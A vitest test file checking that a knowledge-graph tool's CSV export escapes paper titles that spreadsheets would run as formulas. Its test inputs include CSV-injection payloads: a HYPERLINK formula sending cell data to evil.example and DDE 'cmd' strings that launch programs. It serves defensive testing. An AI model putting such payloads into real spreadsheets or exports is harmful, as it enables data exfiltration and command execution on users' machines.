/**
 * `export --format csv` is for spreadsheets: a title that a spreadsheet would run as a formula
 * is written as text. (The neo4j-admin import files keep exact values: tests/store/neo4j-import-values.test.ts.)
 */
import { describe, expect, it } from 'vitest';
import { buildKnowledgeGraph, exportGraph } from '../../src/graph/index.js';
import { cliqueCorpus, makeCorpus } from './fixtures.js';

describe('export csv', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-1+cmd|x'])('writes the title %j as text in nodes.csv', (title) => {
    const spec = cliqueCorpus(1, 3, []);
    spec[0] = { ...spec[0]!, title };
    const corpus = makeCorpus(spec);
    const nodes = exportGraph(buildKnowledgeGraph(corpus.papers, corpus.extraction), 'csv')[0]!.content;
    const cells = nodes.split('\n').flatMap((line) => line.split(',')).map((cell) => cell.replace(/^"/, ''));
    expect(nodes).toContain(`'${title.slice(0, 10)}`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+@]|^-[^\d]/);
  });
});
